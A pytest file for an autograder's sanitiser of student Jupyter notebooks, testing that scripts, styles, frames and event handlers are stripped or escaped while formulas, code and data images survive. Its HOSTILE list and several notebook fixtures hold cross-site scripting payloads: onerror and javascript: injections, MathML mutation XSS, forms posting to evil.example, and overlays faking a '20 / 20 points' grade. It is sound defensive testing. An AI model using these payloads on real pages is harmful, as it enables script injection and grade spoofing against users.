"""The sanitiser of everything a page shows from a student's notebook: what runs, styles or frames is gone or shown
as text, what a student wrote and drew stays (text, formulas, highlighted code, data: images)."""

import base64
from html.parser import HTMLParser

import pytest

from autograder.pages.math import markdown_with_mathml
from autograder.pages.sanitize import clean_cell, clean_html, clean_notebook, clean_output

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode("ascii")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=2</script></svg>'
HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<style>#course-results { display: none }</style>",
    "<img src=x onerror=window.pwned=1>",
    '<div style="position: fixed; inset: 0; background: white">covered</div>',
    '<div class="panel panel-info course-summary" id="course-results">20 / 20 points</div>',
    '<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>',
    SVG,
    '<a href="javascript:window.pwned=1">click</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>',
    "<form action=https://evil.example><input name=q><button>send</button></form>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://x">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",  # mutation XSS through MathML
    '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
    '<a name="test_mse" id="results-mse">a hijacked anchor</a>',
    '<img src="https://evil.example/pixel.png">',
]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """(tag, attributes) of every element a browser would make of the HTML (escaped text makes none)."""
    parser = _Elements()
    parser.feed(html)
    return parser.found


def tags(html: str) -> list[str]:
    return [tag for tag, _ in elements(html)]


def attributes(html: str) -> list[str]:
    return [name for _, attrs in elements(html) for name, _ in attrs]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_runs_styles_frames_or_hides_is_left(hostile):
    cleaned = clean_html(hostile)
    assert not {"script", "style", "iframe", "svg", "form", "input", "button", "object", "embed", "link",
                "meta"} & set(tags(cleaned)), cleaned  # fmt: skip
    assert not [a for a in attributes(cleaned) if a.startswith("on") or a in ("style", "id", "name", "class")]
    urls = [value or "" for _, attrs in elements(cleaned) for name, value in attrs if name in ("href", "src")]
    assert not [url for url in urls if not url.startswith("data:image/")], cleaned


def test_dangerous_markup_is_shown_as_text():
    cleaned = clean_html(HOSTILE[0] + HOSTILE[1])
    assert cleaned == (
        "&lt;script&gt;window.pwned = 1&lt;/script&gt;&lt;style&gt;#course-results { display: none }&lt;/style&gt;"
    )
    assert clean_html(HOSTILE[4]) == "<div>20 / 20 points</div>"  # its words stay, the kit's look does not


def test_what_a_student_wrote_and_drew_stays():
    image = f'<img src="data:image/png;base64,{PNG}" alt="my plot" width="200">'
    assert clean_html(image) == image
    svg_image = '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'
    assert clean_html(svg_image) == svg_image  # an <img> runs no script of its SVG
    kept = "<p>a <em>b</em> <strong>c</strong> <code>d</code></p><ul><li>e</li></ul><table><tbody><tr><td>f</td>"
    kept += "</tr></tbody></table><blockquote>g</blockquote><pre>h</pre>"
    assert clean_html(kept) == kept
    assert (
        clean_html('<a href="https://pytorch.org" target="_blank">docs</a>') == '<a href="https://pytorch.org">docs</a>'
    )


def test_markdown_keeps_highlighting_formulas_and_pasted_images():
    source = (
        "# Heading\n\n$L = \\frac{1}{n}$\n\n```python\ndef f(x):\n    return x\n```\n\n"
        f"![inline](data:image/png;base64,{PNG}) ![pasted](attachment:plot.png)\n\n- [x] done"
    )
    html = clean_html(markdown_with_mathml(source, {"plot.png": {"image/png": PNG}}))
    assert "<h1>Heading</h1>" in html  # no id or anchor: ids on the page are the kit's own
    assert "<math" in html and "<mfrac>" in html
    assert '<span class="k">def</span>' in html and '<div class="highlight">' in html
    assert html.count(f'src="data:image/png;base64,{PNG}"') == 2
    assert "[x] done" in html and "<input" not in html


def test_tex_cannot_smuggle_markup():
    """latex2mathml copies \\text{...} into the MathML as it is: the sanitiser is what stops it."""
    raw = markdown_with_mathml("$\\text{<img src=x onerror=window.pwned=1>}$")
    assert "onerror" in raw  # so the test shows something
    cleaned = clean_html(raw)
    assert "<math" in cleaned and "onerror" not in attributes(cleaned) and "&lt;img" in cleaned


def test_formulas_cannot_move_onto_the_page():
    moved = '<math><mpadded voffset="-5000px" lspace="-90em" width="+0.833em"><mi>x</mi></mpadded></math>'
    assert clean_html(moved) == '<math><mpadded width="+0.833em"><mi>x</mi></mpadded></math>'
    huge = '<math><mstyle scriptlevel="-50"><mi>x</mi></mstyle><mstyle scriptlevel="1"><mi>y</mi></mstyle></math>'
    assert clean_html(huge) == '<math><mstyle><mi>x</mi></mstyle><mstyle scriptlevel="1"><mi>y</mi></mstyle></math>'


def test_outputs_keep_what_a_page_shows_and_nothing_that_runs():
    display = {
        "output_type": "display_data",
        "data": {"text/plain": ["<Figure>"], "image/png": PNG, "image/jpeg": "not base64 \" onerror=x",
                 "image/svg+xml": SVG, "text/html": "<b>hi</b>", "application/javascript": "window.pwned=1",
                 "application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
        "metadata": {"image/png": {"width": "1 onerror=window.pwned=1", "height": 40},
                     "text/html": {"isolated": True}, "filenames": {"image/png": "https://evil.example/x.png"}},
        "svg_filename": "https://evil.example/x.svg",
    }  # fmt: skip
    cleaned = clean_output(display)
    assert set(cleaned) == {"output_type", "data", "metadata"}
    assert set(cleaned["data"]) == {"text/plain", "image/png", "image/svg+xml", "text/html"}
    assert cleaned["data"]["text/plain"] == "<Figure>"  # nbconvert escapes text
    assert cleaned["metadata"] == {"image/png": {"height": 40}}
    result = clean_output({"output_type": "execute_result", "data": {"text/plain": "1"}, "execution_count": "<b>"})
    assert result["execution_count"] is None  # nbconvert writes it unescaped
    assert clean_output({"output_type": "update_display_data", "data": {"text/html": "x"}}) is None
    assert clean_output({"output_type": "display_data", "data": {"application/javascript": "x"}}) is None
    assert clean_output({"output_type": "stream", "name": "<b>", "text": ["a", "b"]})["name"] == "stdout"


def test_cells_keep_plain_metadata_only():
    cell = {
        "cell_type": "code", "id": 'x" onmouseover="window.pwned=1', "execution_count": "<script>",
        "metadata": {"tags": ["fine-tag", "x modal-backdrop"], "nbgrader": {"grade_id": "<img src=x onerror=y>"},
                     "jupyter": {"source_hidden": True}},
        "source": ["a = 1\n", "b = 2"], "outputs": ["not an output", {"output_type": "stream", "text": "hi"}],
    }  # fmt: skip
    cleaned = clean_cell(cell, 3)
    assert cleaned["id"] == "cell-3" and cleaned["execution_count"] is None
    assert cleaned["metadata"] == {"tags": ["fine-tag"]}  # a tag becomes a class: no space, no other class
    assert cleaned["source"] == "a = 1\nb = 2" and len(cleaned["outputs"]) == 1
    nbgrader = {"grade_id": "test_mse", "grade": True, "points": 4}
    assert clean_cell({**cell, "metadata": {"nbgrader": nbgrader}}, 0)["metadata"] == {"nbgrader": nbgrader}
    attachments = {"a.png": {"image/png": PNG}, "b.png": {"image/png": '" onerror=x'}}
    markdown = clean_cell({"cell_type": "markdown", "source": "x", "attachments": attachments}, 0)
    assert markdown["attachments"] == {"a.png": {"image/png": PNG}}
    assert clean_cell({"cell_type": "heading", "source": "x"}, 0) is None


def test_the_notebook_loses_its_own_metadata():
    nb = clean_notebook({"metadata": {"title": "pwned", "widgets": {"x": "</script><script>window.pwned=1"}},
                         "cells": [{"cell_type": "raw", "source": "<script>"}, "not a cell"]})  # fmt: skip
    assert nb.metadata == {"language_info": {"name": "python", "pygments_lexer": "ipython3"}}
    assert [cell.cell_type for cell in nb.cells] == ["raw"]
